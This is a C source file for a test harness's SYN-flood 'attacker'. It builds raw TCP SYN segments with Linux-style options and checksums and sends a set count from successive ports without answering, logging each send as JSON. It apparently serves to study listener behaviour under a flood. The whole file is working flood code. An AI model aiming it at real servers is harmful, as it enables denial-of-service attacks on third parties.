/*
 * The attacker of the syn-flood scenario: sends COUNT bare SYNs, one per source port, from a
 * raw socket, and never answers. (The runner's nftables rule drops the SYN-ACKs coming back
 * to the attacker's address, else the attacker's own kernel would answer them with RST and
 * free the listener's request sockets: a real flood uses addresses nobody answers for.)
 *
 *   kl-synflood T0_US AT_MS SRC_IP DST_IP DPORT FIRST_SPORT COUNT INTERVAL_US [OPTIONS [WINDOW]]
 *
 * OPTIONS says what each SYN carries, to match the attacker the model has in mind:
 *   linux  the options a Linux client sends (mss 1460, sackOK, TS, nop, wscale 7), the default
 *   mss    only mss 1460
 *   none   no options at all (a bare SYN)
 * WINDOW is the header's window (default 64240, what Linux offers with MSS 1460).
 * One JSON line per SYN, like kl-actor's.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static long long now_us(void) {
    struct timespec ts;
    clock_gettime(CLOCK_REALTIME, &ts);
    return (long long)ts.tv_sec * 1000000LL + ts.tv_nsec / 1000;
}

/* RFC 1071 sum over the pseudo-header and the segment. */
static uint16_t tcp_checksum(uint32_t src, uint32_t dst, const uint8_t *seg, size_t len) {
    uint32_t sum = 0;
    sum += (src >> 16) & 0xffff;
    sum += src & 0xffff;
    sum += (dst >> 16) & 0xffff;
    sum += dst & 0xffff;
    sum += htons(IPPROTO_TCP);
    sum += htons((uint16_t)len);
    for (size_t i = 0; i + 1 < len; i += 2) sum += (uint32_t)(seg[i] | seg[i + 1] << 8);
    if (len & 1) sum += seg[len - 1];
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

int main(int argc, char **argv) {
    if (argc < 9 || argc > 11) {
        fprintf(stderr, "usage: kl-synflood T0_US AT_MS SRC_IP DST_IP DPORT FIRST_SPORT COUNT "
                        "INTERVAL_US [linux|mss|none [WINDOW]]\n");
        return 2;
    }
    const char *kind = argc > 9 ? argv[9] : "linux";
    int window = argc > 10 ? atoi(argv[10]) : 64240;
    size_t optlen;
    if (strcmp(kind, "linux") == 0) {
        optlen = 20;
    } else if (strcmp(kind, "mss") == 0) {
        optlen = 4;
    } else if (strcmp(kind, "none") == 0) {
        optlen = 0;
    } else {
        fprintf(stderr, "kl-synflood: OPTIONS is linux, mss or none\n");
        return 2;
    }
    long long start = atoll(argv[1]) + atoll(argv[2]) * 1000LL;
    struct in_addr src, dst;
    if (inet_pton(AF_INET, argv[3], &src) != 1 || inet_pton(AF_INET, argv[4], &dst) != 1) {
        fprintf(stderr, "kl-synflood: bad address\n");
        return 2;
    }
    int dport = atoi(argv[5]), sport = atoi(argv[6]), count = atoi(argv[7]);
    long interval = atol(argv[8]);

    /* IPPROTO_TCP raw socket: the kernel writes the IP header, we write the TCP segment. */
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_TCP);
    if (fd < 0) {
        fprintf(stderr, "kl-synflood: raw socket: %s\n", strerror(errno));
        return 2;
    }
    /* Bound, so the kernel's IP header carries the address the checksum was computed over. */
    struct sockaddr_in from = {.sin_family = AF_INET, .sin_addr = src};
    if (bind(fd, (struct sockaddr *)&from, sizeof from) < 0) {
        fprintf(stderr, "kl-synflood: bind: %s\n", strerror(errno));
        return 2;
    }
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = dst};
    /* A fixed-seed generator: ISNs differ per SYN, and a rerun sends the same ones. */
    srand(1);

    long long wait = start - now_us();
    if (wait > 0) usleep((useconds_t)wait);
    for (int i = 0; i < count; i++) {
        uint8_t seg[40];
        size_t seglen = 20 + optlen;
        memset(seg, 0, sizeof seg);
        uint16_t sp = htons((uint16_t)(sport + i)), dp = htons((uint16_t)dport);
        uint32_t seq = htonl((uint32_t)rand()), tsval = htonl((uint32_t)now_us() / 1000);
        memcpy(seg, &sp, 2);
        memcpy(seg + 2, &dp, 2);
        memcpy(seg + 4, &seq, 4);
        seg[12] = (uint8_t)((seglen / 4) << 4); /* data offset */
        seg[13] = 0x02;                         /* SYN */
        seg[14] = (uint8_t)(window >> 8);
        seg[15] = (uint8_t)window;
        /* mss 1460, sackOK, TS val/ecr, nop, wscale 7: Linux's order. */
        const uint8_t opts[20] = {2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7};
        memcpy(seg + 20, opts, optlen);
        if (optlen == 20) memcpy(seg + 28, &tsval, 4);
        uint16_t sum = tcp_checksum(src.s_addr, dst.s_addr, seg, seglen);
        memcpy(seg + 16, &sum, 2);
        long r = sendto(fd, seg, seglen, 0, (struct sockaddr *)&to, sizeof to);
        int err = errno;
        printf("{\"t_us\":%lld,\"pid\":%d,\"call\":\"sendto\",\"sock\":\"raw\",\"result\":%ld",
               now_us(), (int)getpid(), r);
        if (r < 0) printf(",\"errno\":\"%s\"", strerrorname_np(err));
        printf(",\"local\":\"%s:%d\",\"peer\":\"%s:%d\"}\n", argv[3], sport + i, argv[4], dport);
        fflush(stdout);
        if (interval > 0 && i + 1 < count) usleep((useconds_t)interval);
    }
    return 0;
}
